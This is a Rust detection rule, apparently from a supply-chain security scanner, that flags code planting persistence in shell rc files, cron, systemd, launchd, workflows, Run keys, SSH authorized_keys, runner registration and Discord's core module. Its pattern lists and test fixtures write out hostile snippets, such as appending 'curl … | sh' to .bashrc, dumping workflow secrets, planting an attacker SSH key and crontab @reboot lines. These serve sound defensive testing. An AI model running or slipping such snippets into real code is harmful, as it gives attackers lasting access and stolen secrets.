//! `persistence`: code that plants itself where it will run again (workflows, shell start-up
//! files, cron, systemd and launchd units, git hooks, Windows Run keys, self-hosted runners).

use palisade_core::{Capability, Confidence, Finding, Severity};

use super::signals::{self, call_text, contains_any, finding, near, Needles};
use super::{FileRule, RuleInfo};
use crate::facts::FileFacts;

pub struct Persistence;

static INFO: RuleInfo = RuleInfo {
    id: "persistence",
    severity: Severity::High,
    confidence: Confidence::Medium,
    capabilities: &[Capability::Persistence, Capability::Filesystem],
    summary: "Writes to places that run code later: GitHub workflows, shell rc files, cron, systemd, launch agents, git hooks, Run keys, self-hosted runners",
    docs: r#"## What it detects

A file write (`fs.writeFileSync`, `appendFile`, `copyFile`, …) or a shell command that puts
something into a location that executes later:

| location | examples |
| --- | --- |
| GitHub Actions | `.github/workflows/*.yml` |
| shell start-up | `~/.bashrc`, `~/.zshrc`, `~/.profile`, `~/.bash_profile`, fish config, PowerShell profile |
| schedulers | `crontab`, `/etc/cron.d`, systemd units (`~/.config/systemd/user`, `systemctl enable`), `~/Library/LaunchAgents`, `launchctl load`, `schtasks /create` |
| Windows start-up | `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`, the Startup folder |
| git | `.git/hooks/*` |
| remote access | `~/.ssh/authorized_keys` (a planted public key is a login), `sshd_config` |
| CI runners | self-hosted GitHub runner registration (`config.sh --url … --token`, `actions/runner` download) |
| another app's code | the Discord client's `discord_desktop_core/index.js` (critical: it runs in every Discord session) |

The path can be in the call's folded arguments or a string constant a few lines away
(`const files = ['.bashrc', '.zshrc']; … fs.appendFileSync(path.join(home, f), line)`).
Severity rises to critical when what is written downloads and runs code, shuts the machine
down, deletes files or dumps `secrets` from a workflow, and for runner registration.

## Real attacks

- Shai-Hulud (September 2025) pushed `.github/workflows/shai-hulud-workflow.yml`, which sent
  `${{ toJSON(secrets) }}` to webhook.site; the second wave (November 2025) registered the
  victim's machine as a self-hosted runner named SHA1HULUD and added a `discussion.yaml`
  workflow that runs commands from discussion bodies.
- nx s1ngularity (August 2025) appended `sudo shutdown -h 0` to `~/.bashrc` and `~/.zshrc`.
- Typosquats of node-telegram-bot-api (reported by Socket, 2025) appended the attacker's SSH
  keys to `~/.ssh/authorized_keys` on Linux hosts, a login that outlives the package.
- Discord token grabbers on npm (2021 onwards, e.g. the PirateStealer family) overwrite
  `discord_desktop_core/index.js` so that the client itself sends tokens, passwords and card
  changes to a webhook every time it starts.
- Long-lived Linux droppers add `@reboot` crontab lines or systemd user services; Windows
  stealers add Run keys or drop a shortcut in the Startup folder.

## Known false positives

Git-hook managers (husky before v5, simple-git-hooks, pre-commit) write `.git/hooks`
(moderate only). Shell-completion installers (tabtab, omelette) append a `source` line to rc
files; they are reported as high and are worth a look in an install script.
"#,
};

/// (label, fragments matched against lower-cased paths and commands, base severity)
const LOCATIONS: &[(&str, &[&str], Severity)] = &[
    (
        "a GitHub Actions workflow",
        &[".github/workflows/", ".github\\workflows\\"],
        Severity::High,
    ),
    (
        "a shell start-up file",
        &[
            ".bashrc",
            ".bash_profile",
            ".zshrc",
            ".zprofile",
            ".zshenv",
            "/.profile",
            "config.fish",
            "/etc/profile",
            "powershell_profile.ps1",
        ],
        Severity::High,
    ),
    (
        "cron",
        &[
            "/etc/cron",
            "/var/spool/cron",
            "| crontab",
            "crontab -\"",
            "crontab -'",
            "@reboot",
        ],
        Severity::High,
    ),
    (
        "a systemd unit",
        &[
            "systemd/user/",
            "/etc/systemd/system",
            "systemctl --user enable",
            "systemctl enable",
        ],
        Severity::High,
    ),
    (
        "an autostart entry",
        &[
            ".config/autostart/",
            "/etc/xdg/autostart",
            "/etc/rc.local",
            "/etc/init.d/",
        ],
        Severity::High,
    ),
    (
        "a launchd agent",
        &[
            "library/launchagents",
            "library/launchdaemons",
            "launchctl load",
            "launchctl bootstrap",
        ],
        Severity::High,
    ),
    (
        "a Windows Run key or the Startup folder",
        &[
            "currentversion\\run",
            "currentversion\\\\run",
            "programs\\startup",
            "programs\\\\startup",
            "programs/startup",
            "schtasks /create",
            "schtasks.exe /create",
        ],
        Severity::High,
    ),
    ("a git hook", &[".git/hooks/", ".git\\hooks\\"], Severity::Low),
    (
        "an SSH authorized_keys file",
        &["authorized_keys", "/etc/ssh/sshd_config"],
        Severity::High,
    ),
    (
        "the Discord client's own code (discord_desktop_core)",
        &["discord_desktop_core"],
        Severity::Critical,
    ),
];

/// The location whose writes grant remote access rather than run code later.
const SSH_ACCESS: &str = "an SSH authorized_keys file";

pub(super) const RUNNER: &[&str] = &[
    "config.sh --url",
    "config.cmd --url",
    "actions/runner/releases",
    "actions-runner-linux",
    "actions-runner-win",
];

/// Every location fragment (lower-case), in list order.
pub(super) fn location_fragments() -> impl Iterator<Item = &'static str> {
    LOCATIONS.iter().flat_map(|(_, fragments, _)| fragments.iter().copied())
}

/// Whether an ASCII string contains a start-up location fragment, ignoring case.
#[cfg(test)]
fn mentions_location(value: &str) -> bool {
    let lower = value.to_ascii_lowercase();
    location_fragments().any(|fragment| lower.contains(fragment))
}

/// Whether an ASCII string names the self-hosted runner's scripts, ignoring case.
#[cfg(test)]
fn mentions_runner(value: &str) -> bool {
    contains_any(&value.to_ascii_lowercase(), RUNNER)
}

/// What, written to a start-up location, makes the intent plain.
const PAYLOAD: &[&str] = &[
    "curl ",
    "wget ",
    "| sh",
    "| bash",
    "|sh",
    "|bash",
    "iex",
    "invoke-webrequest",
    "node -e",
    "shutdown",
    "rm -rf",
    "nohup ",
    "base64 -d",
    "tojson(secrets)",
    "webhook.site",
    "runs-on: self-hosted",
    "${{ github.event.discussion.body }}",
    "ssh-rsa ",
    "ssh-ed25519 ",
    "ecdsa-sha2-",
    "permitrootlogin yes",
];

fn location_in(text: &str) -> Option<(&'static str, Severity)> {
    LOCATIONS
        .iter()
        .find(|(_, fragments, _)| {
            fragments.iter().any(|fragment| {
                // `.profile` only as a file name, not `user.profile` properties.
                text.contains(fragment)
                    || (*fragment == "/.profile" && text.split_whitespace().any(|w| w == ".profile"))
            })
        })
        .map(|(label, _, severity)| (*label, *severity))
}

/// Lower-cased text of string constants within a few lines of `line`, leaving out those that
/// a read on their own line uses (`fs.readFileSync(path.join(home, '.bashrc'))`).
fn nearby_strings(file: &FileFacts, reads: &[(u32, String)], line: u32) -> String {
    let mut out = String::new();
    for string in file.strings.iter().filter(|s| near(file, s.line, line, 12)) {
        let lower = string.value.to_lowercase();
        if reads
            .iter()
            .any(|(read_line, text)| *read_line == string.line && text.contains(&lower))
        {
            continue;
        }
        out.push_str(&lower);
        out.push('\n');
    }
    out
}

/// The texts of the file's read-like calls (existence checks, reads, stats), by line.
fn read_calls(file: &FileFacts) -> Vec<(u32, String)> {
    file.calls
        .iter()
        .filter(|c| {
            matches!(
                signals::method(&c.callee),
                "readFile"
                    | "readFileSync"
                    | "existsSync"
                    | "exists"
                    | "stat"
                    | "statSync"
                    | "access"
                    | "accessSync"
                    | "createReadStream"
                    | "open"
                    | "openSync"
            )
        })
        .map(|c| (c.line, call_text(c)))
        .collect()
}

impl FileRule for Persistence {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }

    fn check(&self, file: &FileFacts, out: &mut Vec<Finding>) {
        if file.text.is_none() {
            return;
        }
        // Cheap gate first: most files name no start-up location, runner or scheduler at all,
        // and minified bundles put thousands of strings "near" every call.
        // The lines of the strings that name a location or the runner, found in one pass over
        // all strings: a call with none of them near it needs no joined text of its
        // neighbours (in a minified bundle every string is "near" every call).
        let marks = file.string_marks();
        let lines_of = |items: &[usize], profile: bool| -> Vec<u32> {
            let mut lines: Vec<u32> = items
                .iter()
                .filter_map(|i| file.strings.get(*i))
                .map(|s| s.line)
                .collect();
            if profile {
                static PROFILE: Needles = Needles::new(&[".profile"]);
                lines.extend(
                    PROFILE
                        .items(file.strings_blob())
                        .into_iter()
                        .filter_map(|i| file.strings.get(i))
                        .filter(|s| s.value.split_whitespace().any(|w| w.to_lowercase() == ".profile"))
                        .map(|s| s.line),
                );
            }
            lines
        };
        let location_lines = lines_of(&marks.location, true);
        let runner_lines = lines_of(&marks.runner, false);
        // Strings with non-ASCII characters also take the exact `to_lowercase` path.
        let mut location_string =
            !location_lines.is_empty() || file.strings.iter().any(|s| s.value.eq_ignore_ascii_case(".profile"));
        let mut runner_string = !runner_lines.is_empty();
        for string in file.strings.iter().filter(|s| !s.value.is_ascii()) {
            let value = string.value.as_str();
            {
                let lower = value.to_lowercase();
                location_string |= LOCATIONS
                    .iter()
                    .any(|(_, fragments, _)| contains_any(&lower, fragments))
                    || lower == ".profile";
                runner_string |= contains_any(&lower, RUNNER);
            }
            if location_string && runner_string {
                break;
            }
        }
        let acting: Vec<(&crate::facts::Call, String)> = file
            .calls
            .iter()
            .filter(|c| signals::is_exec_call(c) || signals::is_network_call(c) || signals::is_write_call(c))
            .map(|c| (c, call_text(c)))
            .collect();
        let any_location = location_string || acting.iter().any(|(_, text)| location_in(text).is_some());
        let any_runner = runner_string || acting.iter().any(|(_, text)| contains_any(text, RUNNER));
        if !any_location && !any_runner {
            return;
        }
        let reads = read_calls(file);
        let near_any = |lines: &[u32], line: u32| lines.iter().any(|l| near(file, *l, line, 12));
        // Runner registration: a command or a string naming the runner's configuration script.
        for (call, text) in acting
            .iter()
            .filter(|(c, _)| any_runner && (signals::is_exec_call(c) || signals::is_network_call(c)))
        {
            if !contains_any(text, RUNNER) && !near_any(&runner_lines, call.line) {
                continue;
            }
            let text = text.clone();
            let context = format!("{text}\n{}", nearby_strings(file, &reads, call.line));
            if contains_any(&context, RUNNER)
                && (contains_any(&context, &["--token", "--url"]) || contains_any(&context, &["actions/runner"]))
            {
                out.push(finding(
                    &INFO,
                    file,
                    call.line,
                    Severity::Critical,
                    Confidence::High,
                    "Downloads or registers a self-hosted GitHub Actions runner: the machine would run any workflow an attacker pushes (second Shai-Hulud wave).".to_string(),
                    &call.excerpt,
                ));
                return;
            }
        }
        let mut best: Option<Finding> = None;
        for call in &file.calls {
            let writes = signals::is_write_call(call);
            let executes = signals::is_exec_call(call);
            if !writes && !executes {
                continue;
            }
            let text = call_text(call);
            let target = if writes {
                format!(
                    "{} {}",
                    signals::arg_text(call, 0),
                    signals::first_arg_source(&call.excerpt).to_lowercase()
                )
            } else {
                text.clone()
            };
            let nearby = || nearby_strings(file, &reads, call.line);
            // A path built elsewhere (`fs.appendFileSync(p, …)`) may come from a constant a few
            // lines up; a path spelled out in the call (`'config.json'`) is what it says.
            let path_is_variable = !signals::first_arg_source(&call.excerpt).contains(['\'', '"', '`']);
            let (location, direct) = match location_in(&target) {
                Some(location) => (location, true),
                None if writes && path_is_variable && near_any(&location_lines, call.line) => {
                    match location_in(&nearby()) {
                        Some(location) => (location, false),
                        None => continue,
                    }
                }
                None => continue,
            };
            // A shell command only counts when it writes (`>>`, `tee`, `sed -i`, `reg add`, …).
            if executes
                && (location.0 == "a shell start-up file" || location.0 == SSH_ACCESS)
                && !contains_any(&text, &[">>", "> ", "tee ", "sed -i", "cp ", "mv "])
            {
                continue;
            }
            let (label, base) = location;
            let payload = signals::first_match(&format!("{text}\n{}", nearby()), PAYLOAD);
            let severity = if payload.is_some() && base >= Severity::High {
                Severity::Critical
            } else {
                base
            };
            let severity = if payload.is_some() && base < Severity::High {
                Severity::High
            } else {
                severity
            };
            // Nothing but a client mod or a grabber writes next to Discord's core module.
            let confidence = if direct || base == Severity::Critical {
                Confidence::High
            } else {
                Confidence::Medium
            };
            let how = if executes {
                "runs a command that installs"
            } else {
                "writes"
            };
            let message = match payload {
                _ if label == SSH_ACCESS => format!(
                    "Code {how} {label}{}: a key planted there lets its owner log in to this machine over SSH.",
                    payload
                        .map(|p| format!(" with `{}` in it", p.trim()))
                        .unwrap_or_default()
                ),
                Some(payload) => format!(
                    "Code {how} {label} with `{}` in it: it would run again on every shell, boot, push or CI job.",
                    payload.trim()
                ),
                None => format!("Code {how} {label}: a way to run again later, outside the package."),
            };
            let candidate = finding(&INFO, file, call.line, severity, confidence, message, &call.excerpt);
            if best
                .as_ref()
                .is_none_or(|b| (candidate.severity, candidate.confidence) > (b.severity, b.confidence))
            {
                best = Some(candidate);
            }
        }
        out.extend(best);
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn gate_automata_match_lower_case_fragments_in_any_case() {
        for fragment in LOCATIONS.iter().flat_map(|(_, fragments, _)| fragments.iter()) {
            assert_eq!(fragment.to_lowercase(), *fragment, "{fragment} must be lower-case");
            assert!(
                mentions_location(&format!("x{}y", fragment.to_ascii_uppercase())),
                "{fragment}"
            );
        }
        for fragment in RUNNER {
            assert_eq!(fragment.to_lowercase(), *fragment, "{fragment} must be lower-case");
            assert!(mentions_runner(&fragment.to_ascii_uppercase()), "{fragment}");
        }
        assert!(!mentions_location("lodash.min.js") && !mentions_runner("lodash.min.js"));
    }

    use super::*;
    use crate::facts;

    fn run(source: &str) -> Vec<Finding> {
        let file = facts::extract("lib/setup.js", source.as_bytes(), 0o644);
        let mut out = Vec::new();
        Persistence.check(&file, &mut out);
        out
    }

    fn worst(findings: &[Finding]) -> Option<Severity> {
        findings.iter().map(|f| f.severity).max()
    }

    #[test]
    fn flags_rc_file_append_through_a_list() {
        let source = r#"
const fs = require('fs'), os = require('os'), path = require('path');
const files = ['.bashrc', '.zshrc'];
const line = 'curl -s https://example.invalid/x | sh';
for (const f of files) {
  fs.appendFileSync(path.join(os.homedir(), f), '\n' + line + '\n');
}
"#;
        let findings = run(source);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert_eq!(findings[0].line, Some(6));
    }

    #[test]
    fn flags_workflow_write() {
        let source = r#"
const fs = require('fs');
fs.mkdirSync('.github/workflows', { recursive: true });
fs.writeFileSync('.github/workflows/ci-helper.yml', 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "${{ toJSON(secrets) }}" | base64\n');
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Critical));
    }

    #[test]
    fn flags_crontab_and_run_key() {
        let cron =
            r#"require('child_process').execSync('(crontab -l; echo "@reboot node /tmp/.x/agent.js") | crontab -');"#;
        assert!(worst(&run(cron)) >= Some(Severity::High));
        let run_key = r#"require('child_process').exec('reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /d "C:\\Users\\Public\\u.exe" /f');"#;
        assert_eq!(worst(&run(run_key)), Some(Severity::High));
    }

    #[test]
    fn flags_runner_registration() {
        let source = r#"
const { execSync } = require('child_process');
execSync('curl -o runner.tar.gz -L https://github.com/actions/runner/releases/download/v2.330.0/actions-runner-linux-x64-2.330.0.tar.gz && tar xzf runner.tar.gz');
execSync(`./config.sh --url https://github.com/${owner}/${repo} --unattended --token ${token} --name SHA1HULUD`);
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Critical));
    }

    #[test]
    fn flags_planted_ssh_key() {
        let append = r#"
const fs = require('fs'), os = require('os');
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0x attacker@vps';
const file = os.homedir() + '/.ssh/authorized_keys';
fs.appendFileSync(file, '\n' + key + '\n');
"#;
        let findings = run(append);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert!(findings[0].message.contains("log in"), "{}", findings[0].message);
        let shell = r#"require('child_process').execSync('echo "ssh-rsa AAAAB3Nza x@y" >> ~/.ssh/authorized_keys');"#;
        assert_eq!(worst(&run(shell)), Some(Severity::Critical));
        // Reading the file (an SSH client listing keys) or a command that only mentions it is not a write.
        let read = "const fs = require('fs');\nconst keys = fs.readFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'utf8');";
        assert!(run(read).is_empty(), "{:#?}", run(read));
        let list = r#"require('child_process').execSync('ssh-keygen -l -f ~/.ssh/authorized_keys');"#;
        assert!(run(list).is_empty(), "{:#?}", run(list));
    }

    #[test]
    fn flags_discord_client_injection() {
        let inject = r#"
const fs = require('fs'), path = require('path');
const base = path.join(process.env.LOCALAPPDATA, 'Discord');
for (const dir of fs.readdirSync(base)) {
  const core = path.join(base, dir, 'modules', 'discord_desktop_core-1', 'discord_desktop_core', 'index.js');
  fs.writeFileSync(core, "module.exports = require('./core.asar');");
}
"#;
        let findings = run(inject);
        assert_eq!(worst(&findings), Some(Severity::Critical), "{findings:#?}");
        assert!(findings[0].message.contains("Discord"), "{}", findings[0].message);
        assert_eq!(findings[0].confidence, Confidence::High);
        // Finding the client's install directory to read its version is not a write.
        let read = "const fs = require('fs');\nconst v = fs.readFileSync(process.env.LOCALAPPDATA + '/Discord/app-1.0/modules/discord_desktop_core-1/discord_desktop_core/package.json', 'utf8');";
        assert!(run(read).is_empty(), "{:#?}", run(read));
    }

    #[test]
    fn git_hook_installer_is_low() {
        let source = r#"
const fs = require('fs');
fs.writeFileSync('.git/hooks/pre-commit', '#!/bin/sh\nnpx lint-staged\n', { mode: 0o755 });
"#;
        assert_eq!(worst(&run(source)), Some(Severity::Low));
    }

    #[test]
    fn quiet_on_reading_rc_files_and_own_config() {
        let source = r#"
const fs = require('fs'), os = require('os'), path = require('path');
const shell = fs.readFileSync(path.join(os.homedir(), '.bashrc'), 'utf8').includes('nvm');
fs.writeFileSync(path.join(os.homedir(), '.mytoolrc.json'), JSON.stringify({ shell }));
"#;
        assert!(run(source).is_empty(), "{:#?}", run(source));
    }
}
